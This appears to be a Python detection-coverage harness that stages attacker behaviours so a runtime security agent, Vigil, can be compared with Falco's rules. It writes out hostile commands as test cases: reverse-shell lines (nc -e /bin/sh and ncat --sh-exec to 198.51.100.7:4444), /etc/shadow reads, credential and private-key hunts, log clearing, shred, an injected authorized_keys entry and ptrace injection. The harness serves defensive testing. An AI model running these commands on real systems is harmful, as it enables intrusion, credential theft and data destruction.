#!/usr/bin/env python3
"""Live detection coverage: Falco's stable behaviours (and more), acted out for real.

Each behaviour is a real process doing real system calls on this kernel, on the host or
inside a simulated pod (kubelet/containerd cgroup + containerd bundle; an overlay root
where the rule is about the image). One `vigil run` loads Vigil's default rules and
(when given) Falco's rules with `rule_matching: all`; every behaviour carries a token
(in its command line or file names) so its alerts are found in the stream.

For each behaviour the report says which Falco rule and which Vigil default rules fired,
and whether the Vigil alert named the container and the pod. `--table` prints the
Markdown table of rules/README.md from the same list.

A behaviour whose try lost events (the kernel's drop counter moved) is done again, under a
token of its own (`<token>_r2`, ...): everything it names after the token is new, so the try
acts it out afresh. `--rehearse` acts every behaviour out once before the agent starts (a try
whose events were all lost), so that the run checks tries done again.

Usage: coverage.py --vigil BIN --repo DIR [--falco-rules FILE] [--rehearse] --out REPORT.json
"""
import argparse
import contextlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import livelib as L  # noqa: E402

POD, PRIV, HOST = "pod", "privileged pod", "host"


# Alerts are matched to behaviours by the token each one carries. The agent sees every process of
# the machine, so another run of this harness at the same time (another checkout's tests) acts out
# the same behaviours, with its own pods: the token names this run as well, or its alerts (naming
# other pods, or none) would be taken for ours.
RUN_ID = "%x" % os.getpid()


class Behaviour:
    def __init__(self, bid, what, falco, vigil, where, fn, note="", background=False):
        self.id, self.what, self.vigil, self.where, self.fn = bid, what, vigil, where, fn
        self.note, self.background = note, background
        self.incubating = bool(falco and falco.endswith(" (incubating)"))
        self.falco = falco[: -len(" (incubating)")] if self.incubating else falco
        self.base_token = f"live-{RUN_ID}-{bid}"
        self.try_number = 0  # of the try under way (the first is 1)
        # Its alerts: the output holds the token whole (not the token of a behaviour whose id
        # extends this one's: hardlink-shadow, hardlink-shadow-pod), with any try's suffix.
        self.token_pattern = re.compile(re.escape(self.base_token) + r"(?![A-Za-z0-9-])")

    @property
    def token(self):
        """The token of the try under way. A try done again gets its own (the base token and
        `_rN`), so everything named after it (its directory, files, tools) is new: the try
        acts the behaviour out afresh, not over what the try before left (a link there already
        makes `ln` fail with EEXIST, which Vigil's rules rightly do not take for a link made)."""
        return self.base_token if self.try_number <= 1 else f"{self.base_token}_r{self.try_number}"


BEHAVIOURS = []


def behaviour(bid, what, falco, vigil, where=HOST, note="", background=False, extra=False):
    def deco(fn):
        b = Behaviour(bid, what, falco, vigil if isinstance(vigil, list) else [vigil], where, fn, note, background)
        b.extra = extra
        BEHAVIOURS.append(b)
        return fn
    return deco


def extra_behaviour(*args, **kw):
    """A behaviour of the second set (issue 12: more incubating rules and Tracee's signatures), run
    with --set extra (its own agent, so each run stays short on a loaded machine)."""
    return behaviour(*args, extra=True, **kw)


class Ctx:
    """What a behaviour needs: a scratch directory (same file system as /etc), the pods."""

    def __init__(self, scratch, pods):
        self.scratch = scratch
        self.pods = pods

    def dir(self, b):
        d = os.path.join(self.scratch, b.token)
        os.makedirs(d, exist_ok=True)
        return d

    def runner(self, b):
        """Runs a command (in the behaviour's pod), retrying an exec that fails with ETXTBSY:
        another thread forked while a fresh copy was open for writing."""
        pod = self.pods.get(b.where)
        run = pod.run if pod else L.run

        def retrying(argv, **kw):
            for attempt in range(100):
                try:
                    return run(argv, **kw)
                except OSError as e:
                    if e.errno != 26 or attempt == 99:
                        raise
                    time.sleep(0.02)
        return retrying

    def py(self, b, code, name=None, **kw):
        """Python code as a real process (in the behaviour's pod); the token leads the command."""
        exe = None
        if name:
            exe = os.path.join(self.dir(b), name)
            if not os.path.exists(exe):
                L.copy_program(L.PYTHON, exe)
        return L.py(f"#{b.token}\n" + code, name=exe, runner=self.runner(b), **kw)

    def tool(self, b, name, src="/bin/true"):
        """A stand-in program with the given name (the rules look at the exec, not the tool's work)."""
        exe = os.path.join(self.dir(b), "bin", name)
        if not os.path.exists(exe):
            L.copy_program(os.path.realpath(src), exe)
        return exe


SENSITIVE_READ = "Sensitive authentication file read"
CRED_HUNT = "Credential hunting with search tools"
LINK = "Link to sensitive file created"

# ---------------------------------------------------------------------------
# Falco's stable rules
# ---------------------------------------------------------------------------



@contextlib.contextmanager
def service_account_token():
    """The service account token directory a pod sees, created for the behaviour if the
    host has none (and removed afterwards). Yields the directory."""
    d = "/var/run/secrets/kubernetes.io/serviceaccount"
    created = not os.path.exists("/var/run/secrets")
    os.makedirs(d, exist_ok=True)
    if not os.path.exists(d + "/token"):
        with open(d + "/token", "w") as f:
            f.write("eyJhbGciOiJSUzI1NiJ9.e30.sig")
    try:
        yield d
    finally:
        if created:
            shutil.rmtree("/var/run/secrets", ignore_errors=True)


def write_file_then_remove(c, b, path, content, mode="w"):
    """The behaviour writes `content` (a Python literal, as text) to `path` opened with `mode`; the
    file is removed afterwards."""
    try:
        c.py(b, f"open('{path}', '{mode}').write({content})")
    finally:
        if os.path.exists(path):
            os.unlink(path)


def connect_unix_socket(c, b, name):
    """A listening Unix socket `name` in the behaviour's directory, connected to from the pod."""
    sock = os.path.join(c.dir(b), name)
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(sock)
    srv.listen(1)
    try:
        c.py(b, f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('{sock}')\ns.close()")
    finally:
        srv.close()

@behaviour("traversal", "read /etc/shadow through ../ (a path-traversal bug)", "Directory traversal monitored file read", SENSITIVE_READ)
def _(c, b):
    c.py(b, "open('/etc/../etc/../etc/shadow').read()")


@behaviour("traversal-openat2-pod", "same, openat2 and another spelling, in a pod", "Directory traversal monitored file read", SENSITIVE_READ, POD)
def _(c, b):
    c.py(b, "import livelib as L, os\nfd = L.openat2('/etc/ssh/../../etc/./shadow')\nassert fd >= 0, fd\nos.close(fd)",
         env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


TRUSTED_AFTER_STARTUP = "import time, os\ntime.sleep(6)\nfd = os.open('{path}', os.O_RDONLY)\nos.close(fd)"


@behaviour("trusted-after-startup", "a web server (httpd) reads /etc/shadow 6 s after it started",
           "Read sensitive file trusted after startup", SENSITIVE_READ, background=True)
def _(c, b):
    c.py(b, TRUSTED_AFTER_STARTUP.format(path="/etc/shadow"), name="httpd")


@behaviour("trusted-after-startup-pod", "nginx in a pod reads /etc/shadow (other spelling: //etc//shadow) after startup",
           "Read sensitive file trusted after startup", SENSITIVE_READ, POD, background=True)
def _(c, b):
    c.py(b, TRUSTED_AFTER_STARTUP.format(path="//etc//shadow"), name="nginx")


@behaviour("untrusted-read", "a program reads /etc/shadow", "Read sensitive file untrusted", SENSITIVE_READ)
def _(c, b):
    c.py(b, "open('/etc/shadow').read()")


@behaviour("untrusted-read-openat2-pod", "openat2 of /etc/shadow in a pod", "Read sensitive file untrusted", SENSITIVE_READ, POD)
def _(c, b):
    c.py(b, "import livelib as L, os\nfd = L.openat2('/etc/shadow')\nassert fd >= 0, fd\nos.close(fd)",
         env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


@behaviour("untrusted-read-relative", "read shadow by a relative path after chdir /etc", "Read sensitive file untrusted", SENSITIVE_READ)
def _(c, b):
    c.py(b, "import os\nos.chdir('/etc')\nopen('shadow').read()")


@behaviour("untrusted-read-pam", "a program reads a PAM configuration file (/etc/pam.d)", "Read sensitive file untrusted", SENSITIVE_READ, POD)
def _(c, b):
    c.py(b, "open('/etc/pam.d/common-auth').read()")


@behaviour("renamed-cat-sshd", "a copy of cat renamed sshd reads /etc/shadow (name-based allow-lists)", None, SENSITIVE_READ,
           note="Falco trusts any program named sshd")
def _(c, b):
    c.runner(b)([c.tool(b, "sshd", "/bin/cat"), "/etc/shadow", "/dev/null/" + b.token])


@behaviour("renamed-cat-chkpwd-pod", "a copy of cat renamed unix_chkpwd reads /etc/shadow in a pod", None, SENSITIVE_READ, POD,
           note="Falco trusts any program named unix_chkpwd")
def _(c, b):
    c.runner(b)([c.tool(b, "unix_chkpwd", "/bin/cat"), "/etc/shadow", "/dev/null/" + b.token])


SPAWN_SHELL = "import subprocess\nsubprocess.run(['{sh}', '-c', 'id > /dev/null # {token}'])"


@behaviour("shell-from-httpd", "a web server (httpd) starts a shell", "Run shell untrusted", "Shell spawned by server process")
def _(c, b):
    c.py(b, SPAWN_SHELL.format(sh="/bin/sh", token=b.token), name="httpd")


@behaviour("shell-from-nginx-pod", "nginx in a pod starts bash", "Run shell untrusted", "Shell spawned by server process", POD)
def _(c, b):
    c.py(b, SPAWN_SHELL.format(sh="/bin/bash", token=b.token), name="nginx")


@behaviour("shell-from-postgres", "postgres starts dash", "Run shell untrusted", "Shell spawned by server process")
def _(c, b):
    c.py(b, SPAWN_SHELL.format(sh="/bin/dash", token=b.token), name="postgres")


SYSTEM_LOGIN = """
import os, pty
pid, fd = pty.fork()
if pid == 0:
    with open('/proc/self/loginuid', 'w') as f:
        f.write('{uid}')
    os.setgid({uid}); os.setuid({uid})
    os.execv('/bin/sh', ['sh', '-c', 'id > /dev/null # {token}'])
while True:
    try:
        if not os.read(fd, 1024):
            break
    except OSError:
        break
os.waitpid(pid, 0)
"""


@behaviour("system-user-login", "sshd logs in the system account daemon; its shell runs on a terminal",
           "System user interactive", "Interactive login by system account")
def _(c, b):
    c.py(b, SYSTEM_LOGIN.format(uid=1, token=b.token), name="sshd")


@behaviour("system-user-login-pod", "same as www-data (uid 33) in a privileged pod (setting the login uid needs CAP_AUDIT_CONTROL)", "System user interactive",
           "Interactive login by system account", PRIV)
def _(c, b):
    c.py(b, SYSTEM_LOGIN.format(uid=33, token=b.token), name="sshd")


TTY_SHELL = """
import os, pty
pid, fd = pty.fork()
if pid == 0:
    os.execv('{sh}', ['{sh}', '-c', 'id > /dev/null # {token}'])
while True:
    try:
        if not os.read(fd, 1024):
            break
    except OSError:
        break
os.waitpid(pid, 0)
"""


@behaviour("terminal-shell-pod", "a shell on a terminal in a pod, started by the runtime (kubectl exec -it)",
           "Terminal shell in container", "Interactive shell in container", POD)
def _(c, b):
    c.py(b, TTY_SHELL.format(sh="/bin/sh", token=b.token), name="containerd-shim")


@behaviour("terminal-bash-runc-pod", "bash on a terminal in a pod, parent runc", "Terminal shell in container",
           "Interactive shell in container", POD)
def _(c, b):
    c.py(b, TTY_SHELL.format(sh="/bin/bash", token=b.token), name="runc")


# The destination is put on the loopback of a private network namespace with a listener,
# so the connect succeeds whatever the machine's routes (see livelib.private_net).
CONNECT = """
import livelib as L, socket
L.private_net(['{ip}'])
L.serve_and_close('{ip}', {port})
s = socket.socket(socket.{fam}, socket.SOCK_STREAM)
s.setblocking(False)
try:
    s.connect(('{ip}', {port}))
except (BlockingIOError, OSError):
    pass
s.close()
"""


@behaviour("k8s-api-pod", "a pod connects to the Kubernetes API service (10.96.0.1:443)",
           "Contact K8S API Server From Container", "Kubernetes API server contacted from container", PRIV,
           note="Falco's rule compares fd.sip.name with kubernetes.default.svc.cluster.local, which only resolves in a cluster")
def _(c, b):
    c.py(b, CONNECT.format(fam="AF_INET", ip="10.96.0.1", port=443), env={"PYTHONPATH": LIVE})


@behaviour("k8s-api-6443-pod", "a pod connects to the API server port 6443", "Contact K8S API Server From Container",
           "Kubernetes API server contacted from container", PRIV, note="as above")
def _(c, b):
    c.py(b, CONNECT.format(fam="AF_INET", ip="10.96.0.1", port=6443), env={"PYTHONPATH": LIVE})


@behaviour("netcat-e-pod", "nc -e /bin/sh HOST PORT in a pod", "Netcat Remote Code Execution in Container", "Netcat-style reverse shell", POD)
def _(c, b):
    c.runner(b)([c.tool(b, "nc"), "-e", "/bin/sh", "198.51.100.7", "4444", "-v" + b.token])


@behaviour("netcat-order-pod", "nc HOST PORT -e/bin/sh (option last, glued value) in a pod",
           "Netcat Remote Code Execution in Container", "Netcat-style reverse shell", POD)
def _(c, b):
    c.runner(b)([c.tool(b, "nc"), "-v" + b.token, "198.51.100.7", "4444", "-e/bin/sh"])


@behaviour("ncat-sh-exec-pod", "ncat --sh-exec in a pod", "Netcat Remote Code Execution in Container", "Netcat-style reverse shell", POD)
def _(c, b):
    c.runner(b)([c.tool(b, "ncat"), "--sh-exec", "sh -i", "198.51.100.7", "4444", "-v" + b.token])


@behaviour("grep-private-key", "grep -r 'BEGIN RSA PRIVATE' over files", "Search Private Keys or Passwords", CRED_HUNT)
def _(c, b):
    c.runner(b)(["grep", "-r", "BEGIN RSA PRIVATE", c.dir(b)])


@behaviour("grep-openssh-key-pod", "grep -ril 'begin openssh private key' in a pod", "Search Private Keys or Passwords", CRED_HUNT, POD)
def _(c, b):
    c.runner(b)(["grep", "-ril", "begin openssh private key", c.dir(b)])


@behaviour("find-id-ed25519", "find DIR -name id_ed25519", "Search Private Keys or Passwords", CRED_HUNT)
def _(c, b):
    c.runner(b)(["find", c.dir(b), "-name", "id_ed25519"])


def write_new(path, data):
    """Creates a file without O_TRUNC (setting up must not look like clearing a log)."""
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o640)
    os.write(fd, data)
    os.close(fd)


def log_dir(c, b):
    d = os.path.join("/var/log", "vigil-" + os.path.basename(c.scratch), b.token)
    os.makedirs(d, exist_ok=True)
    return d


@behaviour("clear-auth-log", "truncate an auth.log below /var/log", "Clear Log Activities", "Log file cleared or deleted")
def _(c, b):
    p = os.path.join(log_dir(c, b), "auth.log")
    write_new(p, b"Dec  5 10:00:00 host sshd[1]: Accepted publickey for root\n")
    c.py(b, f"open('{p}', 'w').close()")


@behaviour("clear-syslog-shell-pod", "': > syslog' from a shell in a pod", "Clear Log Activities", "Log file cleared or deleted", POD)
def _(c, b):
    p = os.path.join(log_dir(c, b), "syslog")
    write_new(p, b"Dec  5 10:00:00 host kernel: booted\n")
    c.runner(b)(["/bin/sh", "-c", f": > {p}"])


@behaviour("shred-file", "shred -u a file", "Remove Bulk Data from Disk", "Data destruction tool run")
def _(c, b):
    p = os.path.join(c.dir(b), "data.bin")
    with open(p, "wb") as f:
        f.write(os.urandom(4096))
    c.runner(b)(["shred", "-u", p])


@behaviour("mkfs-loop", "mke2fs formats a block device (a loop device)", "Remove Bulk Data from Disk", "Data destruction tool run")
def _(c, b):
    img = os.path.join(c.dir(b), "disk.img")
    with open(img, "wb") as f:
        f.truncate(8 << 20)
    loop = subprocess.run(["losetup", "-f", "--show", img], capture_output=True, text=True, timeout=30).stdout.strip()
    if not loop:
        raise RuntimeError("losetup failed")
    try:
        # The label holds 16 bytes: the token goes in as the (empty) directory the file system is filled from.
        root = os.path.join(c.dir(b), "root")
        os.makedirs(root, exist_ok=True)
        c.runner(b)(["mke2fs", "-q", "-F", "-L", b.token[:16], "-d", root, loop])
    finally:
        subprocess.run(["losetup", "-d", loop], timeout=30)


@behaviour("symlink-shadow", "ln -s /etc/shadow", "Create Symlink Over Sensitive Files", LINK)
def _(c, b):
    # The link must be made (a failed one, EEXIST say, is rightly ignored by Vigil's rule).
    c.runner(b)(["ln", "-s", "/etc/shadow", os.path.join(c.dir(b), "s")]).check_returncode()


@behaviour("symlinkat-root-pod", "symlinkat to /root (a sensitive directory) in a pod", "Create Symlink Over Sensitive Files", LINK, POD)
def _(c, b):
    d = c.dir(b)
    c.py(b, f"import os\nfd = os.open('{d}', os.O_RDONLY)\nos.symlink('/root', 'r', dir_fd=fd)").check_returncode()


@behaviour("hardlink-shadow", "ln /etc/shadow (a hard link, linkat)", "Create Hardlink Over Sensitive Files", LINK)
def _(c, b):
    c.runner(b)(["ln", "/etc/shadow", os.path.join(c.dir(b), "h")]).check_returncode()


@behaviour("hardlink-shadow-pod", "os.link of /etc/shadow in a pod", "Create Hardlink Over Sensitive Files", LINK, POD)
def _(c, b):
    c.py(b, f"import os\nos.link('/etc/shadow', '{c.dir(b)}/h2')").check_returncode()


@behaviour("packet-socket-pod", "AF_PACKET raw socket in a pod", "Packet socket created in container", "Raw packet socket created in container", POD)
def _(c, b):
    c.py(b, "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close()")


@behaviour("packet-dgram-pod", "AF_PACKET datagram socket in a pod", "Packet socket created in container", "Raw packet socket created in container", POD)
def _(c, b):
    c.py(b, "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300).close()")


REDIRECT = """
import os, socket
srv = socket.socket(socket.{fam}, socket.SOCK_STREAM)
srv.bind(('{ip}', 0)); srv.listen(1)
cl = socket.create_connection(srv.getsockname()[:2])
conn, _ = srv.accept()
for target in {targets}:
    os.dup2(cl.fileno(), target, inheritable={inheritable})
"""


@behaviour("redirect-dup2-pod", "a TCP socket dup2'ed onto stdin and stdout in a pod (reverse shell)",
           "Redirect STDOUT/STDIN to Network Connection in Container", "Standard stream redirected to network socket in container", POD)
def _(c, b):
    c.py(b, REDIRECT.format(fam="AF_INET", ip="127.0.0.1", targets="(0, 1)", inheritable=True))


@behaviour("redirect-dup3-v6-pod", "dup3 of an IPv6 socket onto stderr in a pod",
           "Redirect STDOUT/STDIN to Network Connection in Container", "Standard stream redirected to network socket in container", POD)
def _(c, b):
    c.py(b, REDIRECT.format(fam="AF_INET6", ip="::1", targets="(2,)", inheritable=False))


@behaviour("finit-module-pod", "finit_module from a pod", "Linux Kernel Module Injection Detected", "Kernel module loaded from container", PRIV)
def _(c, b):
    p = os.path.join(c.dir(b), "rootkit.ko")
    with open(p, "wb") as f:
        f.write(b"\x7fELF" + b"\0" * 60)
    c.py(b, f"import livelib as L, os\nfd = os.open('{p}', os.O_RDONLY)\nL.syscall('finit_module', fd, '', 0)",
         env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


@behaviour("init-module-pod", "init_module (module image in memory) from a pod", "Linux Kernel Module Injection Detected",
           "Kernel module loaded from container", PRIV)
def _(c, b):
    c.py(b, "import livelib as L, ctypes\nbuf = ctypes.create_string_buffer(b'\\x7fELF' + b'\\0' * 60)\nL.syscall('init_module', buf, 64, '')",
         env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


@behaviour("debugfs-privileged-pod", "debugfs in a privileged pod", "Debugfs Launched in Privileged Container",
           "Filesystem debugger run in container", PRIV)
def _(c, b):
    img = os.path.join(c.dir(b), "fs.img")
    c.runner(b)(["debugfs", "-R", "stats", img])


RELEASE_AGENT = """
import livelib as L, os, ctypes
assert L.libc.unshare(L.CLONE_NEWNS) == 0
L.libc.mount(None, b'/', None, L.MS_REC | L.MS_PRIVATE, None)
d = '{d}/cg'
os.makedirs(d, exist_ok=True)
mounted = L.libc.mount(b'cgroup', d.encode(), b'cgroup', 0, b'none,name=vigil-live') == 0
fd = os.open(d + '/release_agent', os.O_WRONLY | (0 if mounted else os.O_CREAT), 0o644)
os.close(fd)
if mounted:
    L.libc.umount2(d.encode(), 2)
"""


@behaviour("release-agent-pod", "a privileged pod mounts a cgroup v1 hierarchy and opens release_agent for writing",
           "Detect release_agent File Container Escapes", "Cgroup release_agent written", PRIV)
def _(c, b):
    c.py(b, RELEASE_AGENT.format(d=c.dir(b)), env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


PTRACE = """
import livelib as L, os, subprocess, time, ctypes
child = subprocess.Popen(['sleep', '30'])
time.sleep(0.1)
r = L.syscall('ptrace', {req}, child.pid, 0, 0)
os.waitpid(child.pid, 0) if {req} == 16 else None
if {poke}:
    L.syscall('ptrace', 5, child.pid, 0x400000, 0)
L.syscall('ptrace', 17, child.pid, 0, 0)
child.kill(); child.wait()
"""


@behaviour("ptrace-attach", "PTRACE_ATTACH to another process", "PTRACE attached to process", "Process injection via ptrace")
def _(c, b):
    c.py(b, PTRACE.format(req=16, poke=False), env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


@behaviour("ptrace-seize-poke-pod", "PTRACE_SEIZE then PTRACE_POKEDATA in a pod", "PTRACE attached to process",
           "Process injection via ptrace", POD)
def _(c, b):
    c.py(b, PTRACE.format(req=0x4206, poke=True), env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


@behaviour("ptrace-traceme", "PTRACE_TRACEME (anti-debugging)", "PTRACE anti-debug attempt", "Anti-debugging with PTRACE_TRACEME")
def _(c, b):
    c.py(b, "import livelib as L\nL.syscall('ptrace', 0, 0, 0, 0)", env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


@behaviour("ptrace-traceme-pod", "PTRACE_TRACEME in a pod", "PTRACE anti-debug attempt", "Anti-debugging with PTRACE_TRACEME", POD)
def _(c, b):
    c.py(b, "import livelib as L\nL.syscall('ptrace', 0, 0, 0, 0)", env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


@behaviour("grep-aws-keys", "grep -r aws_secret_access_key", "Find AWS Credentials", CRED_HUNT)
def _(c, b):
    c.runner(b)(["grep", "-r", "aws_secret_access_key", c.dir(b)])


@behaviour("grep-accesskeyid-pod", "grep -ri AccessKeyId in a pod", "Find AWS Credentials", CRED_HUNT, POD)
def _(c, b):
    c.runner(b)(["grep", "-ri", "AccessKeyId", c.dir(b)])


@behaviour("find-aws-credentials", "find DIR -path '*.aws/credentials'", "Find AWS Credentials", CRED_HUNT)
def _(c, b):
    c.runner(b)(["find", c.dir(b), "-path", "*.aws/credentials"])


def shm_copy(c, b):
    d = os.path.join("/dev/shm", "vigil-" + os.path.basename(c.scratch), b.token)
    os.makedirs(d, exist_ok=True)
    return L.copy_program("/bin/true", os.path.join(d, "payload"))


@behaviour("exec-dev-shm", "run a program from /dev/shm", "Execution from /dev/shm", "Execution from temporary directory")
def _(c, b):
    p = shm_copy(c, b)
    c.runner(b)([p, b.token])


@behaviour("exec-dev-shm-cwd-pod", "cd /dev/shm/...; ./payload in a pod", "Execution from /dev/shm", "Execution from temporary directory", POD)
def _(c, b):
    p = shm_copy(c, b)
    c.runner(b)(["./payload", b.token], cwd=os.path.dirname(p), executable=p)


@behaviour("exec-dev-shm-execveat", "execveat of an fd opened on /dev/shm", "Execution from /dev/shm", "Execution from temporary directory")
def _(c, b):
    p = shm_copy(c, b)
    code = (f"import livelib as L, os, ctypes\nfd = os.open('{p}', os.O_RDONLY)\n"
            f"argv = (ctypes.c_char_p * 3)(b'{p}', b'{b.token}', None)\nenvp = (ctypes.c_char_p * 1)(None)\n"
            "pid = os.fork()\nif pid == 0:\n    L.syscall('execveat', fd, '', argv, envp, L.AT_EMPTY_PATH)\n    os._exit(1)\nos.waitpid(pid, 0)")
    c.py(b, code, env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


@behaviour("exec-dev-shm-sh-c", "sh -c /dev/shm/payload", "Execution from /dev/shm", "Execution from temporary directory")
def _(c, b):
    p = shm_copy(c, b)
    c.runner(b)(["/bin/sh", "-c", f"{p} {b.token}"])


DROP_EXEC = """
import livelib as L, os, shutil, ctypes
assert L.libc.unshare(L.CLONE_NEWNS) == 0
L.libc.mount(None, b'/', None, L.MS_REC | L.MS_PRIVATE, None)
d = '{d}'
for s in ('lower/usr/bin', 'upper', 'work', 'rootfs'):
    os.makedirs(os.path.join(d, s), exist_ok=True)
shutil.copy('/bin/true', d + '/lower/usr/bin/true')
opts = 'lowerdir={{0}}/lower,upperdir={{0}}/upper,workdir={{0}}/work'.format(d).encode()
assert L.libc.mount(b'overlay', (d + '/rootfs').encode(), b'overlay', 0, opts) == 0, ctypes.get_errno()
shutil.copy('/bin/true', d + '/rootfs/usr/bin/{name}')  # dropped after start: upper layer
os.chmod(d + '/rootfs/usr/bin/{name}', 0o755)
pid = os.fork()
if pid == 0:
    {exec}
    os._exit(1)
os.waitpid(pid, 0)
"""


@behaviour("drop-exec-pod", "a binary written into the container's overlay root after start is executed",
           "Drop and execute new binary in container", "Dropped binary executed in container", PRIV)
def _(c, b):
    code = DROP_EXEC.format(d=c.dir(b), name="kworker", exec=f"os.execv(d + '/rootfs/usr/bin/kworker', ['kworker', '{b.token}'])")
    c.py(b, code, env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


@behaviour("drop-execveat-pod", "same, executed with execveat on an fd", "Drop and execute new binary in container",
           "Dropped binary executed in container", PRIV)
def _(c, b):
    ex = ("fd = os.open(d + '/rootfs/usr/bin/miner', os.O_RDONLY); "
          f"argv = (ctypes.c_char_p * 3)(b'miner', b'{b.token}', None); envp = (ctypes.c_char_p * 1)(None); "
          "L.syscall('execveat', fd, '', argv, envp, L.AT_EMPTY_PATH)")
    c.py(b, DROP_EXEC.format(d=c.dir(b), name="miner", exec=ex), env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


def ssh_to(c, b, port):
    """ssh to a public address: in a private network namespace where 203.0.113.9 answers and hangs up."""
    argv = ["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-p", str(port), f"{b.token}@203.0.113.9", "true"]
    c.py(b, f"import livelib as L, subprocess\nL.private_net(['203.0.113.9'])\nL.serve_and_close('203.0.113.9', {port})\n"
            f"subprocess.run({argv!r}, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20)",
         env={"PYTHONPATH": LIVE})


@behaviour("ssh-port-443", "ssh to a public address on port 443", "Disallowed SSH Connection Non Standard Port",
           "SSH connection to a web or DNS port")
def _(c, b):
    ssh_to(c, b, 443)


@behaviour("ssh-port-4444-pod", "ssh to port 4444 from a pod", "Disallowed SSH Connection Non Standard Port",
           ["SSH connection to a web or DNS port", "Connection to mining pool or C2 port"], PRIV)
def _(c, b):
    ssh_to(c, b, 4444)


@behaviour("ssh-port-8080", "ssh to port 8080", "Disallowed SSH Connection Non Standard Port", "SSH connection to a web or DNS port")
def _(c, b):
    ssh_to(c, b, 8080)


MEMFD_EXEC = """
import livelib as L, os, ctypes
fd = os.memfd_create('{name}', 0)
os.write(fd, open('/bin/true', 'rb').read())
pid = os.fork()
if pid == 0:
    {exec}
    os._exit(1)
os.waitpid(pid, 0)
"""


@behaviour("memfd-exec", "a program run from a memfd through /proc/self/fd", "Fileless execution via memfd_create",
           "Fileless execution from memfd")
def _(c, b):
    c.py(b, MEMFD_EXEC.format(name="payload", exec=f"os.execv('/proc/self/fd/%d' % fd, ['payload', '{b.token}'])"),
         env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


@behaviour("memfd-execveat-pod", "a memfd executed with execveat(AT_EMPTY_PATH) in a pod", "Fileless execution via memfd_create",
           "Fileless execution from memfd", POD)
def _(c, b):
    ex = (f"argv = (ctypes.c_char_p * 3)(b'kthreadd', b'{b.token}', None); envp = (ctypes.c_char_p * 1)(None); "
          "L.syscall('execveat', fd, '', argv, envp, L.AT_EMPTY_PATH)")
    c.py(b, MEMFD_EXEC.format(name="", exec=ex), env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})


# ---------------------------------------------------------------------------
# Node-security behaviours of Falco's incubating rules and of Tracee's signatures
# ---------------------------------------------------------------------------
INC = " (incubating)"
LIVE = os.path.dirname(os.path.abspath(__file__))


def home_dir(c, b):
    d = os.path.join("/home", "vigil-" + os.path.basename(c.scratch) + "-" + b.id)
    os.makedirs(os.path.join(d, ".ssh"), exist_ok=True)
    return d


@behaviour("core-pattern-write", "core_pattern opened for writing (its value written back unchanged)", None,
           "Kernel usermode helper changed", note="no Falco rule; Tracee: core_pattern modification")
def _(c, b):
    c.py(b, "p = '/proc/sys/kernel/core_pattern'\nv = open(p).read()\nf = open(p, 'w')\nf.write(v)\nf.close()")


@behaviour("proc-mem-write-pod", "a process opens another's /proc/PID/mem for writing in a pod", None,
           "Process memory written through /proc", POD, note="no Falco rule; Tracee: code injection through /proc/PID/mem")
def _(c, b):
    c.py(b, "import subprocess, os\nchild = subprocess.Popen(['sleep', '30'])\n"
            "fd = os.open('/proc/%d/mem' % child.pid, os.O_RDWR)\nos.close(fd)\nchild.kill(); child.wait()")


@behaviour("kcore-read", "/proc/kcore opened for reading", None, "Kernel memory read",
           note="no Falco rule; Tracee: kernel memory read (/proc/kcore)")
def _(c, b):
    c.py(b, "import os\nos.close(os.open('/proc/kcore', os.O_RDONLY))")


@behaviour("sa-token-cat-pod", "cat of the service account token in a pod", None, "Service account token read in container", POD,
           note="no Falco rule; Tracee: service account token read")
def _(c, b):
    with service_account_token() as d:
        c.runner(b)(["cat", d + "/token", "/dev/null/" + b.token])


@behaviour("runtime-socket-pod", "a pod connects to a docker.sock", None, "Container runtime socket accessed from container", POD,
           note="no Falco rule; Tracee: container runtime socket access")
def _(c, b):
    connect_unix_socket(c, b, "docker.sock")


@behaviour("cron-job-write", "a file written below /etc/cron.d", "Schedule Cron Jobs" + INC, "Cron job created or modified")
def _(c, b):
    write_file_then_remove(c, b, f"/etc/cron.d/vigil-{os.path.basename(c.scratch)}", "'* * * * * root true\\n'")


@behaviour("ssh-key-read", "a user's SSH private key read by a non-SSH program", "Read ssh information" + INC, "SSH private key read")
def _(c, b):
    h = home_dir(c, b)
    with open(os.path.join(h, ".ssh", "id_ed25519"), "w") as f:
        f.write("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    try:
        c.py(b, f"open('{h}/.ssh/id_ed25519').read()")
    finally:
        shutil.rmtree(h, ignore_errors=True)


@behaviour("authorized-keys-write-pod", "a key appended to a user's authorized_keys in a pod",
           "Adding ssh keys to authorized_keys" + INC, "SSH authorized keys modified", POD)
def _(c, b):
    h = home_dir(c, b)
    try:
        c.py(b, f"open('{h}/.ssh/authorized_keys', 'a').write('ssh-ed25519 AAAA attacker\\n')")
    finally:
        shutil.rmtree(h, ignore_errors=True)


@behaviour("history-delete", "a shell history file deleted", "Delete or rename shell history" + INC, "Shell history deleted or tampered")
def _(c, b):
    p = os.path.join(c.dir(b), ".bash_history")
    with open(p, "w") as f:
        f.write("ls\n")
    c.runner(b)(["rm", "-f", p])


